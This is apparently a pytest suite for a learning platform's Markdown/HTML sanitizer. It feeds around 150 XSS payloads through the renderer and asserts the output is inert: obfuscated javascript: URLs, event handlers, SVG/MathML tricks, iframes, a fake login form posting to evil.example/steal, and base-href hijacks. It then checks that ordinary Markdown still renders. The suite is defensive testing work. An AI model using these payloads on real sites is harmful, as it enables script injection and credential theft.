"""The one sanitizer: hostile Markdown and HTML must render inert; ordinary Markdown must not break.

Each payload is checked twice: by simple text patterns (what a reviewer would grep for) and by
parsing the output and inspecting every element and attribute (what a browser would execute).
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from lms.markup import render_markdown, safe_image_src

ALLOWED_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "div", "dl", "dt", "em", "h1",
    "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "kbd", "li", "ol", "p", "pre", "s", "span",
    "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "ul",
}  # fmt: skip
URL_ATTRS = {"href", "src", "action", "formaction", "background", "poster", "xlink:href", "data"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "file:", "jar:")

PAYLOADS = [
    # script tags, in every disguise
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<script/src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    "<script>alert(1)",  # unclosed
    "text <script\n>alert(1)</script\n> more",
    "<ScRiPt>alert(1)</sCrIpT>",
    "\x00<script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)"//',
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover me</div>',
    "<p onclick=alert(1)>click</p>",
    '<a href="/ok" onfocus=alert(1) autofocus>x</a>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)">',
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<span class=x onanimationstart=alert(1)>x</span>",
    # javascript:, vbscript:, data: URLs, obfuscated
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="java%0ascript:alert(1)">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)">x</a>',
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="livescript:alert(1)">x</a>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    '<img src="http://insecure.example/a.png">',
    '<img src="//evil.example/a.png">',
    '<img src="/\\evil.example/a.png">',
    '<img srcset="javascript:alert(1) 1x">',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<td background="javascript:alert(1)">x</td>',
    # Markdown link and image syntax with bad schemes
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](javascript&#58;alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "[click][ref]\n\n[ref]: data:text/html,<script>alert(1)</script>",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml,<svg onload=alert(1)>)",
    '![img](x" onerror="alert(1))',
    '![img](https://ok.example/a.png "title" onerror="alert(1)")',
    '[x](https://ok.example/ "a" onmouseover="alert(1)")',
    "<javascript:alert(1)>",
    '[a](javascript:alert(1) "t")',
    "[![img](https://ok.example/a.png)](javascript:alert(1))",
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\" />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert(1)">CLICKME</math>',
    # style elements, style attributes and CSS tricks
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1));">x</div>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">overlay</div>',
    '<span style="behavior: url(xss.htc);">x</span>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div class="btn btn--primary flash">fake UI</div>',
    '<span class="visually-hidden skip-link">x</span>',
    # frames, objects, forms, meta refresh, base
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)">',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x"></applet>',
    '<form action="https://evil.example/steal"><input name=password type=password><button>Log in</button></form>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<isindex action=javascript:alert(1) type=image>",
    '<portal src="https://evil.example"></portal>',
    # broken, nested and unclosed HTML
    '<img src="x" alt=""><img src=x onerror=alert(1)//">',
    '<a href="x" title=""><img src=x onerror=alert(1)>">',
    "<div><p><b>unclosed <i>tags <a href=javascript:alert(1)>x",
    "<<img src=x onerror=alert(1)>>",
    "<img src=x onerror=alert(1)",
    '<img """><script>alert(1)</script>">',
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    '<a href="https://ok.example/"<script>alert(1)</script>>x</a>',
    # raw HTML blocks inside Markdown
    "Intro\n\n<div>\n<script>alert(1)</script>\n</div>\n\nOutro",
    "# Heading <img src=x onerror=alert(1)>",
    "* item <svg/onload=alert(1)>\n* item 2",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | <script>alert(1)</script> |",
    "> quote <iframe src=javascript:alert(1)>",
    "Term\n: <a href=javascript:alert(1)>def</a>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "    <script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    '<div markdown="1">[x](javascript:alert(1))</div>',
    '<a href="https://ok.example" target="_blank" rel="opener">x</a>',
    '<a id="location" name="csrf_token" href="/x">dom clobbering</a>',
    '<img src="/files/1" usemap="#m"><map name="m"><area href="javascript:alert(1)"></map>',
    "<button onclick=alert(1)>Press</button>",
    "<select onfocus=alert(1) autofocus>",
    "<keygen autofocus onfocus=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    '<object><param name="src" value="javascript:alert(1)"></object>',
]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def _elements(html: str):
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def _normalised_url(value: str) -> str:
    from urllib.parse import unquote

    return re.sub(r"[\x00-\x20\x7f]", "", unquote(value)).lower()


def assert_inert(html: str) -> None:
    lowered = html.lower()
    # What a reviewer would grep for.
    assert "<script" not in lowered
    assert "<svg" not in lowered
    assert "<math" not in lowered
    assert "<iframe" not in lowered
    assert "<object" not in lowered
    assert "<embed" not in lowered
    assert "<form" not in lowered
    assert "<meta" not in lowered
    assert "<style" not in lowered
    assert "<link" not in lowered
    assert "<base" not in lowered
    assert "style=" not in lowered
    assert "javascript:" not in lowered
    assert "vbscript:" not in lowered
    assert not re.search(r"\bon\w+\s*=", lowered), html
    assert not re.search(r"(href|src)\s*=\s*[\"']?\s*data:", lowered), html
    # What a browser would act on.
    for tag, attrs in _elements(html):
        assert tag in ALLOWED_TAGS, f"unexpected <{tag}> in {html!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"handler {name} in {html!r}"
            assert name not in ("style", "id", "name", "srcset", "target", "formaction"), html
            if name in URL_ATTRS and value is not None:
                url = _normalised_url(value)
                assert not url.startswith(BAD_SCHEMES), f"{name}={value!r} in {html!r}"
                if tag == "img" and name == "src":
                    assert url.startswith("https://") or not re.match(
                        r"^[a-z][a-z0-9+.\-]*:|//", url
                    )
            if name == "class":
                for cls in value.split():
                    assert cls == "codehilite" or cls.startswith("language-") or len(cls) <= 3, html
                    assert cls not in ("btn", "tag", "row"), html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_input_renders_inert(payload):
    assert_inert(str(render_markdown(payload)))


@pytest.mark.parametrize("payload", PAYLOADS[:40])
def test_hostile_input_inside_markdown_context_renders_inert(payload):
    # The same payloads inside lists, quotes and tables must not escape the Markdown structure.
    for wrapper in ("* {0}", "> {0}", "| a |\n|---|\n| {0} |", "**{0}**", "1. x\n\n    {0}"):
        assert_inert(str(render_markdown(wrapper.format(payload))))


def test_text_mentioning_dangerous_things_is_kept_readable():
    html = str(render_markdown("Never write `javascript:` links or `onerror=` handlers."))
    # Entities keep the text identical for readers while no raw trigger remains.
    assert "javascript&#58;" in html and "onerror&#61;" in html


# --- ordinary Markdown still works ---------------------------------------------------------------
def test_tables_render():
    html = str(render_markdown("| Metric | Value |\n|---|--:|\n| Mean | 4.2 |"))
    assert "<table>" in html and "<th>Metric</th>" in html and "<td" in html and "4.2" in html


def test_fenced_code_is_highlighted_with_css_classes():
    html = str(render_markdown("```python\nimport pandas as pd\nx = 1  # note\n```"))
    assert '<div class="codehilite">' in html
    assert '<span class="kn">import</span>' in html
    assert 'class="c1"' in html
    assert "style=" not in html


def test_code_keeps_markup_as_text():
    html = str(render_markdown("```\n<b>not bold</b> & more\n```"))
    assert "&lt;b&gt;not bold&lt;/b&gt; &amp; more" in html


def test_safe_links_and_images_survive():
    html = str(
        render_markdown(
            "[docs](https://docs.python.org/3/) [mail](mailto:team@example.org) [rel](/courses/x) "
            "![chart](https://cdn.example/chart.png) ![local](/courses/x/files/3/plot.png) "
            "![rel](images/a.png)"
        )
    )
    assert 'href="https://docs.python.org/3/"' in html
    assert 'href="mailto:team@example.org"' in html
    assert 'href="/courses/x"' in html
    # The CSP loads images from this site only: another site's image becomes a link to it.
    assert 'src="https://cdn.example/chart.png"' not in html
    assert (
        '<a href="https://cdn.example/chart.png" rel="noopener noreferrer nofollow">'
        "chart (image on cdn.example, not shown)</a>" in html
    )
    assert 'src="/courses/x/files/3/plot.png"' in html
    assert 'src="images/a.png"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


@pytest.mark.parametrize(
    ("src", "ok"),
    [("https://a.example/x.png", True), ("/files/1", True), ("img/x.png", True),
     ("http://a.example/x.png", False), ("//a.example/x.png", False), ("/\\a.example", False),
     ("javascript:alert(1)", False), (" JAVASCRIPT:alert(1)", False), ("data:image/png;base64,AA", False),
     ("java\tscript:alert(1)", False), ("%6A%61vascript:alert(1)", False), ("", False)],
)  # fmt: skip
def test_image_sources(src, ok):
    assert (safe_image_src(src) is not None) is ok


def test_headings_lists_quotes_and_emphasis():
    html = str(render_markdown("# Title\n\n* one\n* two\n\n> quote\n\n**bold** _it_ ~~no~~"))
    for fragment in (
        "<h1>Title</h1>",
        "<li>one</li>",
        "<blockquote>",
        "<strong>bold</strong>",
        "<em>it</em>",
    ):
        assert fragment in html


def test_empty_and_none():
    assert str(render_markdown(None)) == ""
    assert str(render_markdown("")) == ""
